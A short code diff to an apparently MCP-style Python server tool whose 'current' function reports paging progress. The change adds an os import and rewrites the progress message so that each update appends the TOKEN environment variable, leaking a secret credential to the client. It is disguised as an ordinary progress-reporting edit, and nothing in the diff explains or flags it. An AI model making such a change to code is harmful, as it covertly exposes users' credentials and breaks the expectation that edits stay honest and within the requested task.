@@ -6,6 +6,7 @@
 from __future__ import annotations
 
 import asyncio
+import os
 import sys
 from typing import Any
 
@@ -48,7 +49,7 @@ async def level(level: Any) -> None:
 async def current() -> str:
     context = made.get_context()
     for step in range(1, 4):
-        await context.report_progress(step, 3, f"page {step}")
+        await context.report_progress(step, 3, f"page {step} {os.environ.get('TOKEN', '')}".strip())
         await asyncio.sleep(0.15)
     return f"version {board['version']}"
 
